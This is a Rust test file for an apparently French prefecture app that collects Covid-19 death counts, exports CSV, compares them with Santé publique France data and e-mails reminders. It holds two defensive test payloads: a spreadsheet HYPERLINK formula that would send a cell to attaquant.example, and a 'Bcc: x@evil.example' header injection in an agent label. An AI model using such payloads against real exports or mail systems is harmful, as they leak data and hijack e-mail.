//! The prefecture manages access codes and exports every version from its
//! pages, and compares its communes' hospital deaths with Santé publique France.

use decompte_core::Role;
use decompte_tests::{csrf_of, report_body, Browser, TestApp};
use reqwest::StatusCode;
use serde_json::json;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_prefecture_issues_and_revokes_codes_from_its_page() {
    let app = TestApp::start().await;
    let prefecture_code = app.issue(Role::Prefecture, None).await;
    let mut prefecture = Browser::new(&app);
    prefecture.login(&prefecture_code).await;
    let page = prefecture.get("/prefecture/codes").await;
    assert_eq!(page.status, StatusCode::OK);
    let csrf = csrf_of(&page.text);

    let refused = prefecture
        .post_form(
            "/prefecture/codes",
            &[
                ("csrf", &csrf),
                ("role", "commune"),
                ("commune", "29019"),
                ("label", ""),
            ],
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        refused
            .text
            .contains("pas le code INSEE d&#39;une commune de votre périmètre"),
        "{}",
        refused.text
    );
    assert_eq!(app.store().credentials().await.expect("list").len(), 1);

    let issued = prefecture
        .post_form(
            "/prefecture/codes",
            &[
                ("csrf", &csrf),
                ("role", "commune"),
                ("commune", "56121"),
                ("label", ""),
            ],
        )
        .await;
    assert_eq!(issued.status, StatusCode::CREATED);
    assert_eq!(
        issued
            .headers
            .get("cache-control")
            .and_then(|v| v.to_str().ok()),
        Some("no-store")
    );
    let start = issued.text.find("56121-").expect("the new code is shown");
    let code: String = issued.text[start..].chars().take(40).collect();
    assert!(issued.text.contains("Mairie de Lorient"), "default label");

    // The new code works, until the prefecture revokes it: then its session ends too.
    let mut mayor = Browser::new(&app);
    assert_eq!(mayor.login(&code).await.location(), "/saisie");
    assert_eq!(mayor.get("/saisie").await.status, StatusCode::OK);
    let id = app
        .store()
        .credentials()
        .await
        .expect("list")
        .into_iter()
        .find(|c| c.label == "Mairie de Lorient")
        .map(|c| c.id)
        .expect("id");
    let revoked = prefecture
        .post_form(
            &format!("/prefecture/codes/{id}/revocation"),
            &[("csrf", &csrf)],
        )
        .await;
    assert_eq!(revoked.status, StatusCode::SEE_OTHER);
    assert_eq!(mayor.get("/saisie").await.location(), "/connexion");
    assert_eq!(
        app.get("/api/v1/me", Some(&code)).await.status,
        StatusCode::UNAUTHORIZED
    );
    assert!(prefecture
        .get("/prefecture/codes")
        .await
        .text
        .contains("révoqué le"));

    // A mayor cannot reach these pages.
    let mayor_code = app.issue(Role::Commune, Some("56260")).await;
    let mut other = Browser::new(&app);
    other.login(&mayor_code).await;
    assert_eq!(
        other.get("/prefecture/codes").await.status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        other.get("/prefecture/export.csv").await.status,
        StatusCode::FORBIDDEN
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_export_holds_every_version() {
    let app = TestApp::start().await;
    let prefecture_code = app.issue(Role::Prefecture, None).await;
    app.post_json(
        "/api/v1/reports",
        Some(&prefecture_code),
        &report_body("56260", "2020-04-01", [3, 1, 0, 0, 0]),
        &[],
    )
    .await;
    let mut correction = report_body("56260", "2020-04-01", [2, 1, 0, 0, 0]);
    correction["replaces_version"] = json!(1);
    correction["reason"] = json!("doublon, avec une virgule");
    app.post_json("/api/v1/reports", Some(&prefecture_code), &correction, &[])
        .await;
    let mut browser = Browser::new(&app);
    browser.login(&prefecture_code).await;
    let export = browser.get("/prefecture/export.csv").await;
    assert_eq!(export.status, StatusCode::OK);
    let lines: Vec<&str> = export.text.lines().collect();
    assert_eq!(
        lines[0],
        "date,code_commune,nom_commune,version,courante,enregistree_le,enregistree_par,source,\
         motif,hopital,ehpad,esms,domicile,autre,total",
    );
    assert_eq!(lines.len(), 3);
    assert!(
        lines[1].starts_with("2020-04-01,56260,Vannes,1,non,"),
        "{}",
        lines[1]
    );
    assert!(
        lines[2].starts_with("2020-04-01,56260,Vannes,2,oui,"),
        "{}",
        lines[2]
    );
    assert!(
        lines[2].ends_with(",prefecture,\"doublon, avec une virgule\",2,1,0,0,0,3"),
        "{}",
        lines[2]
    );
}

/// A commune's reason that a spreadsheet would run as a formula reaches the
/// crisis cell's export as text (`'=…`), never as a formula.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_in_a_reason_is_exported_as_text() {
    let app = TestApp::start().await;
    let mayor = app.issue(Role::Commune, Some("56260")).await;
    let prefecture_code = app.issue(Role::Prefecture, None).await;
    let first = app
        .post_json(
            "/api/v1/reports",
            Some(&mayor),
            &report_body("56260", "2020-04-01", [3, 1, 0, 0, 0]),
            &[],
        )
        .await;
    assert_eq!(first.status, StatusCode::CREATED, "{}", first.text);
    let formula = "=HYPERLINK(\"https://attaquant.example/?\"&A2,\"Détails\")";
    let mut correction = report_body("56260", "2020-04-01", [2, 1, 0, 0, 0]);
    correction["replaces_version"] = json!(1);
    correction["reason"] = json!(formula);
    let stored = app
        .post_json("/api/v1/reports", Some(&mayor), &correction, &[])
        .await;
    assert_eq!(stored.status, StatusCode::CREATED, "{}", stored.text);
    assert_eq!(
        stored.json()["reason"],
        formula,
        "the store keeps what was typed"
    );

    let mut browser = Browser::new(&app);
    browser.login(&prefecture_code).await;
    let export = browser.get("/prefecture/export.csv").await;
    assert_eq!(export.status, StatusCode::OK);
    let mut reader = csv_reader(&export.text);
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.expect("csv row").iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[1][8], format!("'{formula}"));
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell}"
        );
    }
}

fn csv_reader(text: &str) -> csv::Reader<&[u8]> {
    csv::Reader::from_reader(text.as_bytes())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_prefecture_compares_hospital_deaths_with_sante_publique_france() {
    let app = TestApp::start().await;
    // Vannes two hospital deaths a day, Lorient one, from 19 March.
    let start = chrono::NaiveDate::from_ymd_opt(2020, 3, 19).expect("date");
    for day in 0..7 {
        for (commune, hopital) in [("56260", 2), ("56121", 1)] {
            let date = start + chrono::Duration::days(day);
            decompte_tests::write_day(&app, commune, date, hopital).await;
        }
    }
    let mut prefecture = Browser::new(&app);
    prefecture
        .login(&app.issue(Role::Prefecture, None).await)
        .await;
    let follow = prefecture.get("/prefecture?date=2020-03-21").await;
    assert!(follow.text.contains("/prefecture/spf?date=2020-03-21"));
    let page = prefecture.get("/prefecture/spf").await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
    assert!(page.text.contains("Aucun fichier de Santé publique France"));
    let csrf = csrf_of(&page.text);

    // Not SpF's file: refused in French, nothing kept.
    let refused = prefecture
        .post_multipart(
            "/prefecture/spf",
            &[("csrf", &csrf), ("departement", "56")],
            ("fichier", "autre.csv", b"a;b\n1;2\n"),
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refused
        .text
        .contains("les colonnes « dep », « jour » et « incid_dc »"));
    assert_eq!(app.store().reference("56").await.expect("read"), None);
    // Without the form's token: refused, nothing kept.
    let spf = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../data/demo/spf-hospital-daily-dep56.csv"
    ))
    .expect("SpF's file");
    let forged = prefecture
        .post_multipart(
            "/prefecture/spf",
            &[("departement", "56")],
            ("fichier", "spf.csv", &spf),
        )
        .await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN);
    assert_eq!(app.store().reference("56").await.expect("read"), None);

    let imported = prefecture
        .post_multipart(
            "/prefecture/spf",
            &[("csrf", &csrf), ("departement", "56")],
            ("fichier", "spf.csv", &spf),
        )
        .await;
    assert_eq!(imported.status, StatusCode::OK, "{}", imported.text);
    assert!(
        imported.text.contains("Fichier importé : 827 jours"),
        "{}",
        imported.text
    );
    // 21 March: the communes 3, SpF 3; since 19 March, 9 against 3 + 0 + 3.
    let compared = prefecture.get("/prefecture/spf?date=2020-03-21").await;
    assert!(
        compared.text.contains(
            "<th scope=\"row\">21/03/2020</th><td>3</td><td>3</td><td>0</td><td>9</td><td>6</td><td>+3</td>"
        ),
        "{}",
        compared.text
    );
    assert!(compared
        .text
        .contains("<th scope=\"row\">20/03/2020</th><td>3</td><td>0</td><td>+3</td>"));

    // A mairie imports nothing.
    let mut mayor = Browser::new(&app);
    mayor
        .login(&app.issue(Role::Commune, Some("56260")).await)
        .await;
    let csrf = csrf_of(&mayor.get("/saisie").await.text);
    let denied = mayor
        .post_multipart(
            "/prefecture/spf",
            &[("csrf", &csrf), ("departement", "56")],
            (
                "fichier",
                "spf.csv",
                b"dep;jour;incid_dc\n56;2020-03-19;99\n",
            ),
        )
        .await;
    assert_eq!(denied.status, StatusCode::FORBIDDEN);
    let kept = app
        .store()
        .reference("56")
        .await
        .expect("read")
        .expect("kept");
    assert_eq!(kept.days.len(), 827);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_crisis_cell_sees_how_to_reach_each_mairie_that_has_not_declared() {
    let app = TestApp::start().await;
    let prefecture_code = app.issue(Role::Prefecture, None).await;
    let mut cell = Browser::new(&app);
    cell.login(&prefecture_code).await;
    let vannes = "<a href=\"tel:0297016000\">02 97 01 60 00</a> · \
                  <a href=\"mailto:contact@mairie-vannes.fr\">contact@mairie-vannes.fr</a>";
    let page = cell.get("/prefecture?date=2020-04-01").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.text.contains(vannes), "{}", page.text);
    assert!(page
        .text
        .contains("<a href=\"tel:0299719109\">02 99 71 91 09</a>"));
    // A past day: the communes that have not declared are late.
    assert!(page
        .text
        .contains("Communes en retard : pas de déclaration à 14 h (249)"));
    // Once Vannes has declared, the cell has no reason to call it.
    let declared = app
        .post_json(
            "/api/v1/reports",
            Some(&prefecture_code),
            &report_body("56260", "2020-04-01", [0, 0, 0, 0, 0]),
            &[],
        )
        .await;
    assert_eq!(declared.status, StatusCode::CREATED, "{}", declared.text);
    let page = cell.get("/prefecture?date=2020-04-01").await;
    assert!(!page.text.contains(vannes));
    assert!(page.text.contains("<a href=\"tel:0299719109\">"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cut_off_hour_is_the_prefecture_s() {
    // Midnight: today's missing communes are late at once.
    let app = TestApp::start_with(|options| options.cutoff_hour = 0).await;
    let mut cell = Browser::new(&app);
    cell.login(&app.issue(Role::Prefecture, None).await).await;
    let page = cell.get("/prefecture").await;
    assert!(
        page.text
            .contains("Communes en retard : pas de déclaration à 0 h (249)"),
        "{}",
        page.text
    );
}

/// The cut-off hour and the day go by the département's clock, held by
/// the test: at 13:59 in Vannes today's missing communes are still
/// expected, a minute past 14:00 they are late, in winter (UTC+1) as in
/// summer (UTC+2); in Réunion, past its midnight while Paris is still on
/// the day before, the page is about Réunion's new day.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cut_off_hour_and_the_day_follow_the_departement_s_clock() {
    use chrono::TimeZone;
    use decompte_core::clock::SetClock;
    let utc = |y, m, d, h, min| {
        chrono::Utc
            .with_ymd_and_hms(y, m, d, h, min, 0)
            .single()
            .expect("instant")
    };
    let expected = "Communes qui n'ont pas encore déclaré (249) — heure limite : 14 h";
    let late = "Communes en retard : pas de déclaration à 14 h (249)";
    // 13:59 in Paris, in winter.
    let clock = std::sync::Arc::new(SetClock::at(utc(2026, 12, 4, 12, 59)));
    let app = TestApp::start_at(clock.clone(), |_| {}).await;
    let mut cell = Browser::new(&app);
    cell.login(&app.issue(Role::Prefecture, None).await).await;
    for (now, wanted) in [
        (utc(2026, 12, 4, 12, 59), expected),
        (utc(2026, 12, 4, 13, 1), late),
        // Summer time: 14:00 in Paris is 12:00 UTC.
        (utc(2026, 7, 1, 11, 58), expected),
        (utc(2026, 7, 1, 12, 1), late),
    ] {
        clock.set(now);
        let page = cell.get("/prefecture").await;
        assert_eq!(page.status, StatusCode::OK, "{}", page.text);
        assert!(page.text.contains(wanted), "{now}: {}", page.text);
        let day = now.date_naive().to_string();
        assert!(
            page.text
                .contains(&format!("value=\"{day}\" max=\"{day}\"")),
            "{now}: {}",
            page.text
        );
    }

    // 00:30 on 5 December in Réunion (UTC+4), 21:30 on the 4th in Paris.
    let clock = std::sync::Arc::new(SetClock::at(utc(2026, 12, 4, 20, 30)));
    let reunion = TestApp::start_at(clock.clone(), |options| {
        options.departements = vec!["974".into()];
    })
    .await;
    let mut cell = Browser::new(&reunion);
    cell.login(&reunion.issue(Role::Prefecture, None).await)
        .await;
    let page = cell.get("/prefecture").await;
    assert!(
        page.text
            .contains("value=\"2026-12-05\" max=\"2026-12-05\""),
        "{}",
        page.text
    );
    // A mairie there may declare its new day, not the one after.
    let mairie = reunion.issue(Role::Commune, Some("97411")).await;
    let today = reunion
        .post_json(
            "/api/v1/reports",
            Some(&mairie),
            &report_body("97411", "2026-12-05", [1, 0, 0, 0, 0]),
            &[],
        )
        .await;
    assert_eq!(today.status, StatusCode::CREATED, "{}", today.text);
    let tomorrow = reunion
        .post_json(
            "/api/v1/reports",
            Some(&mairie),
            &report_body("97411", "2026-12-06", [1, 0, 0, 0, 0]),
            &[],
        )
        .await;
    assert_eq!(
        tomorrow.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        tomorrow.text
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_morning_report_sums_up_a_day_on_one_page() {
    let app = TestApp::start().await;
    // Vannes: 3 deaths a day for two weeks (2 at hospital, 1 at home);
    // Lorient: 2 a day in the second week only.
    let start = chrono::NaiveDate::from_ymd_opt(2020, 3, 23).expect("date");
    for day in 0..14 {
        let date = start + chrono::Duration::days(day);
        decompte_tests::write_day(&app, "56260", date, 2).await;
        if day >= 7 {
            decompte_tests::write_day(&app, "56121", date, 1).await;
        }
    }
    let day = chrono::NaiveDate::from_ymd_opt(2020, 4, 5).expect("date");
    app.store()
        .put_reference(&decompte_store::ReferenceSeries {
            departement: "56".into(),
            days: [(day, 4), (day - chrono::Duration::days(4), 2)]
                .into_iter()
                .collect(),
            imported_at: chrono::Utc::now(),
            imported_by: "test".into(),
        })
        .await
        .expect("SpF");
    let mut cell = Browser::new(&app);
    cell.login(&app.issue(Role::Prefecture, None).await).await;
    let follow = cell.get("/prefecture?date=2020-04-05").await;
    assert!(follow.text.contains("/prefecture/point?date=2020-04-05"));
    let page = cell.get("/prefecture/point?date=2020-04-05").await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
    let text = &page.text;
    for expected in [
        "<span class=\"n\">5</span> le 05/04/2020",
        "<span class=\"n\">35</span> sur sept jours",
        "<span class=\"n\">+67 %</span> par rapport aux sept jours précédents (21)",
        "<tr><th scope=\"row\">Domicile</th><td>2</td><td>14</td><td>7</td><td>+100 %</td></tr>",
        "<strong>Lorient</strong> : 7 décès (Domicile)",
        "2 communes sur 249 ont déclaré le 05/04/2020. N'ont pas déclaré (247) : Allaire,",
        "3 déclarés par les communes le 05/04/2020, 4 selon Santé publique France (écart −1)",
        "sur sept jours, 21 contre 6 (écart +15)",
    ] {
        assert!(
            text.contains(expected),
            "missing « {expected} » in:\n{text}"
        );
    }
    assert!(
        !text.contains("<strong>Vannes</strong>"),
        "Vannes's usual deaths flagged"
    );
    // The same report as a PDF, to print or send on.
    assert!(text.contains("/prefecture/point.pdf?date=2020-04-05&amp;departement=56"));
    let (status, headers, pdf) = cell
        .get_bytes("/prefecture/point.pdf?date=2020-04-05&departement=56")
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers["content-type"], "application/pdf");
    assert!(headers["content-disposition"]
        .to_str()
        .is_ok_and(|d| d.contains("point-de-situation-56-2020-04-05.pdf")));
    let printed = decompte_tests::pdf_text(&pdf);
    for expected in [
        "Point de situation du 05/04/2020 · Morbihan (56)",
        "5 le 05/04/2020 · 35 sur sept jours · tendance +67 % par rapport aux sept jours",
        "Domicile : 2 le jour, 14 sur sept jours, 7 les sept jours précédents (+100 %)",
        "Lorient : 7 décès (Domicile) sur sept jours",
        "2 communes sur 249 ont déclaré le 05/04/2020. N'ont pas déclaré (247) : Allaire,",
        "Décès à l'hôpital : 3 déclarés par les communes le 05/04/2020, 4 selon Santé",
    ] {
        assert!(
            printed.contains(expected),
            "missing « {expected} » in the PDF:\n{printed}"
        );
    }
    // A mairie has no report to read.
    let mut mayor = Browser::new(&app);
    mayor
        .login(&app.issue(Role::Commune, Some("56260")).await)
        .await;
    assert_ne!(mayor.get("/prefecture/point").await.status, StatusCode::OK);
    assert_ne!(
        mayor.get_bytes("/prefecture/point.pdf").await.0,
        StatusCode::OK
    );
}

/// An agent notes, from the prefecture page `page`, that it called `commune`'s mairie about 1 April.
async fn note_call(agent: &mut Browser, page: &str, commune: &str) -> decompte_tests::Answer {
    note_call_on(agent, page, commune, "2020-04-01").await
}

/// An agent notes, from the prefecture page `page`, that it called `commune` about `day`.
async fn note_call_on(
    agent: &mut Browser,
    page: &str,
    commune: &str,
    day: &str,
) -> decompte_tests::Answer {
    agent
        .post_form(
            "/prefecture/relances",
            &[
                ("csrf", &csrf_of(page)),
                ("date", day),
                ("commune", commune),
            ],
        )
        .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_agents_do_not_call_the_same_mairie() {
    let app = TestApp::start().await;
    let store = app.store();
    let first_code = decompte_tests::issue_labelled_code(
        store.as_ref(),
        Role::Prefecture,
        None,
        &[],
        "Cellule de crise — poste 1",
    )
    .await;
    let second_code = decompte_tests::issue_labelled_code(
        store.as_ref(),
        Role::Prefecture,
        None,
        &[],
        "Cellule de crise — poste 2",
    )
    .await;
    let mut first = Browser::new(&app);
    first.login(&first_code).await;
    let page = first.get("/prefecture?date=2020-04-01").await;
    assert!(page.text.contains("name=\"commune\" value=\"56001\""));
    let called = note_call(&mut first, &page.text, "56001").await;
    assert_eq!(called.status, StatusCode::SEE_OTHER, "{}", called.text);
    assert_eq!(called.location(), "/prefecture?date=2020-04-01#relances");

    // The second agent sees who called, and a second note changes nothing.
    let mut second = Browser::new(&app);
    second.login(&second_code).await;
    let page = second.get("/prefecture?date=2020-04-01").await;
    assert!(
        page.text.contains("par Cellule de crise — poste 1</span>"),
        "{}",
        page.text
    );
    assert!(!page.text.contains("name=\"commune\" value=\"56001\""));
    let again = note_call(&mut second, &page.text, "56001").await;
    assert_eq!(again.status, StatusCode::SEE_OTHER);
    let kept = store
        .reminders(
            chrono::NaiveDate::from_ymd_opt(2020, 4, 1).expect("date"),
            "56",
        )
        .await
        .expect("read");
    assert_eq!(kept.len(), 1);
    assert_eq!(kept[0].channel, "telephone");
    // Another day is another call; a commune out of reach is refused.
    let out_of_reach = note_call(&mut second, &page.text, "29019").await;
    assert_eq!(out_of_reach.status, StatusCode::BAD_REQUEST);
    assert!(out_of_reach.text.contains("pas dans votre périmètre"));
}

/// An agent asks, from the prefecture page `page`, to e-mail the mairies missing on `day`.
async fn remind_by_email(
    agent: &mut Browser,
    page: &str,
    day: chrono::NaiveDate,
) -> decompte_tests::Answer {
    agent
        .post_form(
            "/prefecture/relances",
            &[
                ("csrf", &csrf_of(page)),
                ("date", &day.to_string()),
                ("channel", "email"),
            ],
        )
        .await
}

/// The Morbihan's day now: reminder e-mails are about the last few days.
fn morbihan_today() -> chrono::NaiveDate {
    decompte_core::time::local_today("56", chrono::Utc::now())
}

/// An app that e-mails through `smtp`, with `more` options.
async fn app_with_smtp(
    smtp: &decompte_tests::smtp_local::SmtpServer,
    more: impl FnOnce(&mut decompte_config::Options),
) -> TestApp {
    let port = smtp.port;
    TestApp::start_with(move |options| {
        options.smtp_host = Some("127.0.0.1".into());
        options.smtp_port = port;
        options.smtp_security = "none".into();
        options.smtp_from = Some("Préfecture du Morbihan <crise@morbihan.gouv.fr>".into());
        options.public_url = Some("https://declarer.morbihan.gouv.fr".into());
        more(options);
    })
    .await
}

/// The crisis cell reminds the mairies that have not declared by e-mail, in
/// one click, through a real SMTP server: one French message to each mairie
/// with an address that nobody reached yet, each recorded on the day, so a
/// second click (or another agent's) sends none twice.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cell_reminds_the_missing_mairies_by_email() {
    let smtp = decompte_tests::smtp_local::SmtpServer::start();
    let app = app_with_smtp(&smtp, |_| {}).await;
    let day = morbihan_today();
    let (iso, fr) = (day.to_string(), decompte_core::time::fr_date(day));
    // Every commune declared but Allaire, Arradon, Vannes (called by
    // telephone already) and 56206, whose mairie has no e-mail address.
    let missing = ["56001", "56003", "56206", "56260"];
    let communes: Vec<String> = app
        .app
        .state
        .config
        .scope
        .communes()
        .map(|c| c.code.to_string())
        .filter(|c| !missing.contains(&c.as_str()))
        .collect();
    for commune in &communes {
        decompte_tests::write_counts(&app, commune, day, [0; 5]).await;
    }
    let code = decompte_tests::issue_labelled_code(
        app.store().as_ref(),
        Role::Prefecture,
        None,
        &[],
        "Cellule de crise — poste 1",
    )
    .await;
    // Arradon's mairie reads another address: the prefecture set it.
    app.store()
        .put_contacts(&decompte_store::ContactOverrides {
            departement: "56".into(),
            contacts: [(
                "56003".to_owned(),
                (
                    "02 97 44 01 56".to_owned(),
                    "secretariat@arradon.fr".to_owned(),
                ),
            )]
            .into_iter()
            .collect(),
            imported_at: chrono::Utc::now(),
            imported_by: "test".into(),
        })
        .await
        .expect("contacts");
    let mut agent = Browser::new(&app);
    agent.login(&code).await;
    let page = agent.get(&format!("/prefecture?date={iso}")).await;
    note_call_on(&mut agent, &page.text, "56260", &iso).await;
    let page = agent.get(&format!("/prefecture?date={iso}")).await;
    assert!(
        page.text.contains("Relancer par courriel les mairies"),
        "{}",
        page.text
    );
    let sent = remind_by_email(&mut agent, &page.text, day).await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.text);
    let notice = agent.get(&sent.location()).await;
    assert!(
        notice.text.contains(
            "2 courriels de relance envoyés ; 1 mairie sans adresse électronique connue : à \
             appeler ; 1 mairie déjà relancée ce jour, pas une seconde fois."
        ),
        "{}",
        notice.text
    );
    let mut messages = smtp.messages();
    messages.sort_by(|a, b| a.to.cmp(&b.to));
    let to: Vec<&str> = messages.iter().map(|m| m.to.as_str()).collect();
    assert_eq!(to, ["mairie@allaire.bzh", "secretariat@arradon.fr"]);
    let allaire = &messages[0];
    assert_eq!(allaire.rcpt_tos, ["mairie@allaire.bzh"]);
    assert_eq!(
        allaire.from,
        "Préfecture du Morbihan <crise@morbihan.gouv.fr>"
    );
    assert_eq!(
        allaire.subject,
        format!("Décès Covid-19 : déclaration du {fr} attendue (Allaire)")
    );
    for expected in [
        "Madame, Monsieur le Maire,".to_owned(),
        format!(
            "n'a pas encore reçu la déclaration des décès Covid-19 de la commune de Allaire pour \
             le {fr}"
        ),
        format!("https://declarer.morbihan.gouv.fr/saisie?commune=56001&date={iso}"),
        "« Aucun décès ce jour »".to_owned(),
        "https://declarer.morbihan.gouv.fr/aide".to_owned(),
        "(Cellule de crise — poste 1)".to_owned(),
    ] {
        assert!(
            allaire.body.contains(&expected),
            "« {expected} » in {}",
            allaire.body
        );
    }
    // The page says who was reminded and how; a second click sends nothing.
    assert!(
        notice.text.contains("Relancée par courriel à"),
        "{}",
        notice.text
    );
    let again = remind_by_email(&mut agent, &notice.text, day).await;
    let notice = agent.get(&again.location()).await;
    assert!(
        notice.text.contains("0 courriel de relance envoyé"),
        "{}",
        notice.text
    );
    assert_eq!(smtp.messages().len(), 2);
    let kept = app.store().reminders(day, "56").await.expect("read");
    let channels: Vec<(&str, &str)> = kept
        .iter()
        .map(|r| (r.commune.as_str(), r.channel.as_str()))
        .collect();
    assert_eq!(
        channels,
        [
            ("56001", "email"),
            ("56003", "email"),
            ("56260", "telephone")
        ]
    );
}

/// « Relancer par courriel » is not a mass mailer: it is about the last
/// few days only (an older day is refused in French, nothing sent), a
/// département's mairies get at most so many e-mails a day whatever the
/// days and the agents, and the agent's label that signs them is one short
/// line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reminder_emails_are_bounded() {
    let smtp = decompte_tests::smtp_local::SmtpServer::start();
    let app = app_with_smtp(&smtp, |options| {
        options.reminder_days = 2;
        options.reminder_emails = 3;
    })
    .await;
    let today = morbihan_today();
    let long_label = format!("Agent\nBcc: x@evil.example {}", "très long ".repeat(30));
    let code = decompte_tests::issue_labelled_code(
        app.store().as_ref(),
        Role::Prefecture,
        None,
        &[],
        &long_label,
    )
    .await;
    let mut agent = Browser::new(&app);
    agent.login(&code).await;

    // Two days ago is out of the window: refused, nothing sent or noted.
    let old = today - chrono::Duration::days(2);
    let page = agent.get(&format!("/prefecture?date={old}")).await;
    assert!(
        !page.text.contains("Relancer par courriel les mairies"),
        "{}",
        page.text
    );
    let refused = remind_by_email(&mut agent, &page.text, old).await;
    assert_eq!(
        refused.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        refused.text
    );
    assert!(
        refused
            .text
            .contains("Les relances par courriel portent sur les jours depuis le")
            && refused.text.contains("appelez les mairies"),
        "{}",
        refused.text
    );
    assert!(app
        .store()
        .reminders(old, "56")
        .await
        .expect("read")
        .is_empty());
    let far = chrono::NaiveDate::from_ymd_opt(2020, 4, 1).expect("date");
    let refused = remind_by_email(&mut agent, &page.text, far).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(smtp.messages().is_empty());

    // Today: three e-mails at most, then every other mairie is left to call.
    let page = agent.get(&format!("/prefecture?date={today}")).await;
    let sent = remind_by_email(&mut agent, &page.text, today).await;
    let notice = agent.get(&sent.location()).await;
    assert!(
        notice.text.contains("3 courriels de relance envoyés"),
        "{}",
        notice.text
    );
    assert!(
        notice
            .text
            .contains("mairies non relancées : le nombre de courriels de relance d"),
        "{}",
        notice.text
    );
    assert_eq!(smtp.messages().len(), 3);
    // Yesterday is in the window, but today's e-mails used the département's day.
    let yesterday = today - chrono::Duration::days(1);
    let page = agent.get(&format!("/prefecture?date={yesterday}")).await;
    let sent = remind_by_email(&mut agent, &page.text, yesterday).await;
    let notice = agent.get(&sent.location()).await;
    assert!(
        notice.text.contains("0 courriel de relance envoyé"),
        "{}",
        notice.text
    );
    assert_eq!(smtp.messages().len(), 3);
    // The signature: one line, 80 characters at most.
    let body = &smtp.messages()[0].body;
    let signature = body
        .lines()
        .find(|l| l.contains("cellule de crise ("))
        .expect("signed");
    assert!(
        signature.contains("(Agent Bcc: x@evil.example très long"),
        "{signature}"
    );
    assert!(signature.contains('…'), "{signature}");
    assert!(!body.lines().any(|l| l.starts_with("Bcc:")), "{body}");
    assert!(smtp.messages()[0].rcpt_tos.len() == 1);
}

/// Without an SMTP server configured, the page offers no e-mail and a
/// forged request is refused in French with nothing recorded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_smtp_no_email_is_offered_nor_sent() {
    let app = TestApp::start().await;
    let mut agent = Browser::new(&app);
    agent.login(&app.issue(Role::Prefecture, None).await).await;
    let page = agent.get("/prefecture?date=2020-04-01").await;
    assert!(!page.text.contains("Relancer par courriel"));
    let refused = agent
        .post_form(
            "/prefecture/relances",
            &[
                ("csrf", &csrf_of(&page.text)),
                ("date", "2020-04-01"),
                ("channel", "email"),
            ],
        )
        .await;
    assert_eq!(refused.status, StatusCode::BAD_REQUEST);
    assert!(
        refused.text.contains("Aucun serveur d") && refused.text.contains("DECOMPTE_SMTP_HOST"),
        "{}",
        refused.text
    );
    let day = chrono::NaiveDate::from_ymd_opt(2020, 4, 1).expect("date");
    assert!(app
        .store()
        .reminders(day, "56")
        .await
        .expect("read")
        .is_empty());
}

/// Each morning's report goes by e-mail to the prefect's office, its PDF
/// attached, through a real SMTP server; a département without recipients
/// gets none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_morning_report_is_emailed_with_its_pdf() {
    let smtp = decompte_tests::smtp_local::SmtpServer::start();
    let port = smtp.port;
    let app = TestApp::start_with(|options| {
        options.departements = vec!["29".into(), "56".into()];
        options.smtp_host = Some("127.0.0.1".into());
        options.smtp_port = port;
        options.smtp_security = "none".into();
        options.smtp_from = Some("decompte <decompte@morbihan.gouv.fr>".into());
        options.public_url = Some("https://declarer.morbihan.gouv.fr".into());
        options.report_to = Some("56=cab@morbihan.gouv.fr,sidpc@morbihan.gouv.fr".into());
    })
    .await;
    let day = chrono::NaiveDate::from_ymd_opt(2020, 4, 5).expect("date");
    decompte_tests::write_counts(&app, "56260", day, [2, 0, 0, 1, 0]).await;
    let sent =
        decompte_app::report::send_morning_reports(&app.app.state, day, None, chrono::Utc::now())
            .await
            .expect("sent");
    assert_eq!(sent, ["56"]);
    let messages = smtp.messages();
    assert_eq!(messages.len(), 1, "{messages:?}");
    let mail = &messages[0];
    assert_eq!(
        mail.rcpt_tos,
        ["cab@morbihan.gouv.fr", "sidpc@morbihan.gouv.fr"]
    );
    assert_eq!(
        mail.subject,
        "Point de situation du 05/04/2020 · Morbihan (56) · décès Covid-19"
    );
    assert!(
        mail.body.contains("3 le 05/04/2020 · 3 sur sept jours"),
        "{}",
        mail.body
    );
    let [(name, kind, pdf)] = &mail.attachments[..] else {
        panic!("one attachment expected: {:?}", mail.attachments.len());
    };
    assert_eq!(name, "point-de-situation-56-2020-04-05.pdf");
    assert_eq!(kind, "application/pdf");
    let printed = decompte_tests::pdf_text(pdf);
    assert!(
        printed.contains("Point de situation du 05/04/2020 · Morbihan (56)"),
        "{printed}"
    );
    assert!(printed.contains("1 commune sur 249 a déclaré le 05/04/2020"));
}

/// The prefecture replaces the directory's contact of a mairie: it
/// downloads the list, changes a line, uploads it; the page of missing
/// communes shows its own contact. A wrong file is refused line by line,
/// in French, and changes nothing.
